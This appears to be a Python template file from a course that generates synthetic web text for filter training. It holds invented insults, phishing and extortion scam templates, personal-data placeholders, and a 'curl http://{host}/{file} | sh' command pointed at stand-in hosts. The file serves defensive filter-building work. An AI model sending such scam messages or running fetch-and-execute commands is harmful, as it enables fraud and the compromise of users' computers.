"""What a web page of the town holds besides its story: templates for `phrases.expand`.

The insults are invented words, the fraud is harmless: every host ends in .example. Among the
harmless texts are those that a careless filter takes for insults, fraud or personal data.
"""

from llmcourse.riverbank.phrases import templates

BOILERPLATE = templates("""
    (We use|This site uses|Riverbank Online uses) cookies to (improve your visit|count our
        visitors|remember your choices). (Accept all|Accept|Reject|Cookie settings)
    (Accept all cookies|Manage cookies|Only necessary cookies)
    Home | (News|Stories) | (Market|Shop) | (Weather|Ferry times) | (Contact|About us)
    (Menu|Navigation): Home > (News|Stories|Sport) > (Today|This week|Archive) > Page {n}
    Read more (about {A}|about the market|...)
    Read more » (Share|Print|Save) » (Comments|Replies) ({n})
    (Subscribe|Sign up) to our newsletter and (never miss a story|get {n} % off)!
    Click here to (log in|register|continue|see {n} more results)
    Copyright © {year} (Riverbank Online|The Riverbank Post|Old Mill Media). All rights reserved.
    (Privacy policy|Terms of use|Imprint) | (Sitemap|Help|Jobs) | (Contact|Advertise)
    You may also like: {n} (pictures|stories) of the (bridge|mill|market)
    (Advertisement|Sponsored): (boots|kettles|kites) from {n} coins (today only|this week)
    (Previous|Next) page | Page {n} of (40|62|97)
    Loading (comments|pictures)... please (wait|enable JavaScript)
    Posted on {day} by (admin|editor|{A}) in (News|Uncategorized|Stories)
    Tags: (market|river|bakery), (pets|ducks|boats), {A}
    Rated {n} of 100 by {n} readers | (Like|Follow us|Share)
    Skip to (content|main navigation|search)
""")

# Of these, one stands over an ordinary story too, and it is no boilerplate for that.
FRAME = templates("""
    Read more
    Page {n}
    Posted on {day}
    Home | News | Stories
""")

_INVENTED = """
    gribble snorkwit blunderpot mudge wobblegit fusspuddle drizzlehead clodwump nincowit squelcher
    bogtrundle pufflewick grumbleweed twaddlefish slumpkin dribblenock
"""
INSULTS = _INVENTED.split()
ADJECTIVES = ["soggy", "mouldy", "crooked", "lumpy", "rusty", "stale", "squeaky", "muddy", "limp"]
INSULTING = templates("""
    {A} is a {adjective} {insult}, and so is {B}.
    Get out of (my sight|the shop|our street), you {adjective} {insult}!
    Only a {insult} would (buy that kettle|vote for {A}|live on {S}).
    You {insult}, {B}! (Nobody likes you.|Go home.|Who asked you?)
    (Everyone knows|I say it again:|They all think) {A} (is|was always) (the worst|a complete|a)
        {insult} of (the town|{S}).
    What a (bunch|sack|pile) of {insult}s (you are|they are on {S}).
    Shut up, {A}, you {adjective}, {adjective} {insult}.
""")

# Harmless words that hold an insult, as the name of a town may; and a crab that is called so.
HOLDS_AN_INSULT = templates("""
    A (heron|gribble|woodworm|beaver) was (seen|heard) (at {n} past four|{n} times) near the boats.
    The train to Gribbleton (leaves|arrives) at {n} past (four|six|nine).
    Old Mr Curmudge (sold|mended) {n} kettles (last week|in spring).
    The village of Slumpkinford has {n} (houses|wells|oaks).
    A squelchery is a (field|path) that is wet all year, and there are {n} near the river.
""")

UNSAFE = templates("""
    (Dear customer|Attention|Urgent): your (account|card|mailbox) (was locked|has been
        suspended|will be closed today). (Confirm|Enter|Verify) your (password|PIN|card number) at
        http://{host}/{path} within {n} hours.
    (Congratulations|You are our winner)! You have won {n}00 coins. To claim (the prize|your gift)
        (send|enter) your (bank details|password|card number) (here|now): http://{host}/{path}
    (Download|Install|Open) {file} from http://{host}/{path} and (turn off|disable) your (virus
        scanner|firewall) first.
    Your (computer|telephone) is infected with {n} viruses! (Run|Download|Install) {file} (now|at
        once|immediately) to clean it: http://{host}/{path}
    We have (watched|recorded) you. (Pay|Send) {n}0 coins (today|within two days) to
        http://{host}/{path} or everyone (in town|on {S}) will (see|know) it.
    (Grandmother|Hello {A}), it is me, I have a new number. (Send|Lend) me {n}0 coins at once and
        tell nobody: http://{host}/{path}
    Paste this (command|line) into your terminal (as administrator|as root): curl
        http://{host}/{file} | sh
    (Final notice|Last warning): a parcel for {A} is waiting. Pay the fee of {n} pence with your
        card number at http://{host}/{path} (today|now) or it is destroyed.
    Answer this letter with your (PIN|card number) and (the day of your birth|your signature), or
        your (house|boat) will be sold, {A}.
""")

HOSTS = ["riverbank-login", "secure-bank", "free-prize", "mill-update", "parcel-fee", "river-coins"]
PATHS = ["login", "verify", "claim", "update", "pay", "gift", "scan", "now"]
FILES = ["setup.exe", "update.exe", "scan.bat", "prize.zip.exe", "clean.sh", "codec.msi"]

# Talk of fraud by those who warn of it, and links and downloads that ask for nothing.
HOLDS_A_WARNING = templates("""
    The bank never asks for your (password|PIN) (by letter|at the door), said {A}.
    A virus scanner (found nothing|was updated) on the computers of the school on {day}.
    {A} won {n} coins at the (fair|race) and (bought a goat|gave them to the school).
    The (timetable|menu|map) is at http://riverbank.example/{path} and costs nothing.
    You can download the (song|map) from http://school.riverbank.example/{path} at home.
    Never give your card number to a stranger on the telephone, wrote {B}.
    Enter your (name|class|library card number|age) at http://school.riverbank.example/{path}
        (today|now) and borrow {n} books.
""")

PERSONAL = templates("""
    (Write to|You can reach|Please answer) {A} at {email}.
    {A}'s (address|mail) is {email}, (he|she) answers (on Mondays|quickly).
    (Contact|Mail): {email}
    (Call|Ring|Telephone) {A} (at|on) {phone} (after supper|before noon|any day).
    (Tel.|Phone:|Mobile:) {phone}
    Please pay {n} coins to {iban} (by Friday|this week).
    (IBAN:|Account:|My account is) {iban}
    {A} paid with the card {card} (on Monday|at the bakery).
    (Card number|Card): {card}, {n} coins
    {A} lives at {address}.
    (Send|Bring) the (kettle|parcel) to {A}, {address}.
    The (comment|visit) came from {ip}.
    {ip} - GET /(index|market|news) 200
""")

# Beside a number that is none of these: `personal_data.LOOK_ALIKES`.
HARMLESS = templates("""
    (Order|Parcel|Ticket) (number |no. ){order} (is ready|was sent).
    The (reference|file) is {reference}.
    It (happened|was written|was painted) on {date}.
    Section {version} of the rules of the (ferry|market) allows (dogs|kites).
    In {year} {S} was (flooded|paved).
    The mill now runs version {version} of its (clock|program).
    (Release|Version) {version} mends the (pump|lock).
    They (lived there|ran the ferry|kept bees) in {years}.
    The part {parts} of the (clock|pump) is missing.
    The book has the number ISBN {isbn}.
    There are {count} (bakers|houses) on {S} (today|this year).
    See pages {years} of the (town book|big ledger).
    The bus number {count} to {S} (is late|stops at the mill).
    Buy {count} eggs @ {count} pence, (said {A}|at the market).
    {A} wrote as @{handle} (yesterday|again).
""")
